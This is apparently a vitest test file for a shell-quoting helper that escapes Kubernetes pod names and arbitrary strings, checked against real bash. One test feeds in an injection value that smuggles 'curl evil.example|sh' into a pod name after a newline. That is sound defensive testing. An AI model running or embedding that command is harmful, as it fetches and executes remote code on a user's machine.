import { execFileSync } from 'node:child_process'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { podArguments, word } from '../../src/core/words/shell.ts'

test.each([
  ['web-1', 'web-1'],
  ['my pod', "'my pod'"],
  ["it's", String.raw`'it'\''s'`],
  ['two\nlines', String.raw`$'two\nlines'`],
  ["a'b\\c\x01\x1b[0m", String.raw`$'a\'b\\c\x01\x1b[0m'`],
])('%j is typed as %s', (text, typed) => expect(word(text)).toBe(typed))

test('a pod with a newline in its name is two words on one line', () => {
  expect(podArguments('n/web\ncurl evil.example|sh #')).toBe(String.raw`-n n $'web\ncurl evil.example|sh #'`)
})

test('a shell reads any word as it was, and it stands on one line', () => {
  const texts = fc.sample(
    fc.string({ unit: fc.constantFrom('a', '0', ' ', "'", '"', '\\', '$', '`', '\n', '\t', '\r', '\x01', '\x7f', '!', '#') }),
    400,
  )
  expect(texts.some((text) => word(text).includes('\n'))).toBe(false)
  const said = execFileSync('bash', ['-c', texts.map((text) => `printf '%s\\0' ${word(text)}`).join('\n')], { encoding: 'utf8' })
  expect(said.split('\0').slice(0, -1)).toEqual(texts)
})
